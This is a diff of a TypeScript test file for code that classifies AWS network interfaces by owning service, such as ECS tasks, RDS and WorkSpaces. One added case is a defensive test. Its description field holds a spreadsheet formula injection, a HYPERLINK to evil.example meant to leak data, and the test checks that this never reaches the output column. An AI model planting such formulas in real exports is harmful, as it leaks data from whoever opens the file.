@@ -1,9 +1,10 @@
 import type { NetworkInterface } from '@aws-sdk/client-ec2';
 import { describe, expect, it } from 'vitest';
-import {
-  interfaceTypeOf,
-  resourceTypeFromDescription,
-} from '../../../src/analyze/interfaceType.js';
+import { interfaceTypeOf } from '../../../src/analyze/interfaceType.js';
+import { owningService } from '../../../src/analyze/owningService.js';
+
+/** The InterfaceType column as the analysis writes it: from the interface and its owner. */
+const typeOf = (eni: NetworkInterface) => interfaceTypeOf(eni, owningService(eni).service);
 
 // An interface with only the fields that decide its type.
 function iface(fields: Partial<NetworkInterface>): NetworkInterface {
@@ -32,9 +33,9 @@ describe('interfaceTypeOf', () => {
   ])('InterfaceType %s -> %s, attached or not', (interfaceType, expected) => {
     // The SDK's enum lacks `nat_gateway`, which AWS does return.
     const type = interfaceType as NetworkInterface['InterfaceType'];
-    expect(interfaceTypeOf(iface({ InterfaceType: type }))).toBe(expected);
+    expect(typeOf(iface({ InterfaceType: type }))).toBe(expected);
     expect(
-      interfaceTypeOf(
+      typeOf(
         iface({
           InterfaceType: type,
           Attachment: { InstanceId: 'i-1' },
@@ -79,31 +80,52 @@ describe('interfaceTypeOf', () => {
       'Classic Load Balancer',
     ],
     [
-      'an ARN description names its service (the Python script spelled it "e c s")',
+      'an ECS task on Fargate (an attachment ARN), not its first words or "ecs"',
+      {
+        InterfaceType: 'interface',
+        Attachment: { AttachmentId: 'ela-attach-1', InstanceOwnerId: '794321122735' },
+        Association: { IpOwnerId: 'amazon', PublicIp: '3.0.0.1' },
+        Description: 'arn:aws:ecs:us-east-1:123456789012:attachment/8d2f-4c3a',
+        RequesterManaged: true,
+      },
+      'ECS Task',
+    ],
+    [
+      'an RDS instance',
+      {
+        InterfaceType: 'interface',
+        Attachment: { AttachmentId: 'ela-attach-1', InstanceOwnerId: 'amazon-rds' },
+        Description: 'RDSNetworkInterface',
+        RequesterId: 'amazon-rds',
+        RequesterManaged: true,
+      },
+      'RDS DB Instance',
+    ],
+    [
+      'a WorkSpace: never "Created By"',
       {
         InterfaceType: 'interface',
         Attachment: { AttachmentId: 'ela-attach-1' },
-        Association: { IpOwnerId: 'amazon', PublicIp: '3.0.0.1' },
-        Description: 'arn:aws:ecs:us-east-1:123456789012:attachment/8d2f-4c3a',
+        Description: 'Created By Amazon Workspaces for AWS Account ID 123456789012',
       },
-      'ecs',
+      'WorkSpaces',
     ],
     [
-      'a GovCloud ARN',
+      'an unknown ARN in the description: its service is not guessed from user text',
       {
         Attachment: { AttachmentId: 'a' },
         Description: 'arn:aws-us-gov:elasticfilesystem:us-gov-west-1:1:file-system/fs-1',
       },
-      'elasticfilesystem',
+      'Unknown Resource Type',
     ],
     [
-      'a description with spaces gives its first two words',
+      'a formula in the description never reaches the column',
       {
         InterfaceType: 'interface',
         Attachment: { AttachmentId: 'a' },
-        Description: 'RDSNetworkInterface for my-db instance',
+        Description: '=HYPERLINK("https://evil.example/?leak","Open") now',
       },
-      'RDSNetworkInterface for',
+      'Unknown Resource Type',
     ],
     [
       'a one-word description',
@@ -127,18 +149,6 @@ describe('interfaceTypeOf', () => {
       'Unknown Resource Type',
     ],
   ])('%s', (_case, fields, expected) => {
-    expect(interfaceTypeOf(iface(fields))).toBe(expected);
-  });
-});
-
-describe('resourceTypeFromDescription', () => {
-  it.each([
-    ['arn:aws:ecs:us-east-1:1:attachment/x', 'ecs'],
-    ['arn:aws:lambda:eu-west-1:123456789012:function:f', 'lambda'],
-    ['arn:not really', 'arn:not really'],
-    ['  spaced   out words ', 'spaced out'],
-    ['', 'Unknown Resource Type'],
-  ])('%j -> %j', (description, expected) => {
-    expect(resourceTypeFromDescription(description)).toBe(expected);
+    expect(typeOf(iface(fields))).toBe(expected);
   });
 });
